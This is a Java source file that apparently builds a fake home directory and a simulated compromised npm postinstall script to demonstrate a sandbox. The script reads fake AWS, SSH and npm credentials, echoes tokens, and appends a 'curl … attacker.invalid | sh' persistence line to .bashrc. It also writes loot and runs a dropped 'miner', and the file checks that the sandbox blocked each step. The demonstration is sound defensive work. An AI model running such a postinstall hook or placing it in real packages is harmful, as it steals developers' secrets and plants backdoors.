package dev.magus.cli.demo;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * A throwaway world for {@code magus demo}: a fake HOME holding fake credentials, a
 * workspace whose "postinstall" script behaves like a compromised package, and the fake
 * secrets a CI shell would have in its environment. It never touches the real HOME: every
 * path is under {@code root}, and the caller runs the script with HOME pointed here.
 */
public record DemoWorld(Path root, Path home, Path workspace, Path outside, Map<String, String> secretEnv) {

    public static final String AWS_KEY = "AKIAFAKEFAKEFAKEFAKE";
    public static final String AWS_SECRET = "fake/Secret/Key/For/The/Magus/Demo0000";
    public static final String GITHUB_TOKEN = "ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000";
    public static final String NPM_TOKEN = "npm_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE00";

    static final String BASHRC = "# the user's shell start-up file\n";

    /** The script a compromised dependency would run at install time. */
    static final String POSTINSTALL = """
            #!/bin/sh
            # A compromised package's postinstall: does its job, then goes for your secrets.
            exec 2>&1
            echo "postinstall: compiling native addon..."
            mkdir -p build && echo "addon built" > build/addon.txt && cat build/addon.txt

            echo "postinstall: collecting credentials..."
            cat "$HOME/.aws/credentials"
            cat "$HOME/.ssh/id_rsa"
            cat "$HOME/.npmrc"
            echo "GITHUB_TOKEN=${GITHUB_TOKEN:-<not in my environment>}"
            echo "AWS_SECRET_ACCESS_KEY=${AWS_SECRET_ACCESS_KEY:-<not in my environment>}"

            echo "postinstall: persisting..."
            echo 'curl -s https://attacker.invalid/x | sh' >> "$HOME/.bashrc"
            echo "stolen" > "%OUTSIDE%/loot.txt"
            "$HOME/Downloads/miner"

            echo "postinstall: done"
            """;

    /** What the run must leave as it was: the attack's targets. */
    public List<String> verdicts(List<String> output) throws IOException {
        List<String> failures = new java.util.ArrayList<>();
        for (String secret : List.of(AWS_KEY, AWS_SECRET, GITHUB_TOKEN, NPM_TOKEN, "FAKE-KEY-FOR-THE-MAGUS-DEMO")) {
            if (output.stream().anyMatch(l -> l.contains(secret))) {
                failures.add("a secret was printed: " + secret.substring(0, 8) + "…");
            }
        }
        if (Files.exists(outside.resolve("mined")) || output.stream().anyMatch(l -> l.startsWith("miner:"))) {
            failures.add("the dropped binary ran");
        }
        if (!Files.readString(home.resolve(".bashrc")).equals(BASHRC)) {
            failures.add("~/.bashrc was changed");
        }
        if (Files.exists(outside.resolve("loot.txt"))) {
            failures.add("a file was written outside the workspace");
        }
        if (!Files.exists(workspace.resolve("build/addon.txt"))) {
            failures.add("the legitimate build output is missing");
        }
        return failures;
    }

    /** Lays the world out under a fresh directory in {@code parent}. */
    public static DemoWorld create(Path parent) throws IOException {
        Path root = Files.createTempDirectory(parent, "magus-demo-");
        Path home = Files.createDirectories(root.resolve("home"));
        Path workspace = Files.createDirectories(root.resolve("workspace"));
        Path outside = Files.createDirectories(root.resolve("outside"));

        write(home.resolve(".aws/credentials"), """
                [default]
                aws_access_key_id = %s
                aws_secret_access_key = %s
                """.formatted(AWS_KEY, AWS_SECRET));
        write(home.resolve(".ssh/id_rsa"), """
                -----BEGIN OPENSSH PRIVATE KEY-----
                FAKE-KEY-FOR-THE-MAGUS-DEMO-NOT-A-REAL-KEY
                -----END OPENSSH PRIVATE KEY-----
                """);
        write(home.resolve(".npmrc"), "//registry.npmjs.org/:_authToken=" + NPM_TOKEN + "\n");
        write(home.resolve(".bashrc"), BASHRC);
        Path miner = write(home.resolve("Downloads/miner"),
                "#!/bin/sh\necho 'miner: mining with your CPU'\ntouch '" + outside.resolve("mined") + "'\n");
        Files.setPosixFilePermissions(miner, PosixFilePermissions.fromString("rwxr-xr-x"));

        write(workspace.resolve("magus.yaml"), """
                # The workspace of a project that installs npm packages.
                sandbox:
                  mode: required
                """);
        write(workspace.resolve("package.json"), """
                {"name": "demo-app", "version": "1.0.0", "dependencies": {"left-pad-compromised": "1.3.1"}}
                """);
        Path script = write(workspace.resolve("postinstall.sh"), POSTINSTALL.replace("%OUTSIDE%", outside.toString()));
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));

        Map<String, String> env = new LinkedHashMap<>();
        env.put("HOME", home.toString());
        env.put("GITHUB_TOKEN", GITHUB_TOKEN);
        env.put("AWS_ACCESS_KEY_ID", AWS_KEY);
        env.put("AWS_SECRET_ACCESS_KEY", AWS_SECRET);
        env.put("NPM_TOKEN", NPM_TOKEN);
        return new DemoWorld(root, home, workspace, outside, Map.copyOf(env));
    }

    public List<String> command() {
        return List.of("./postinstall.sh");
    }

    private static Path write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }
}
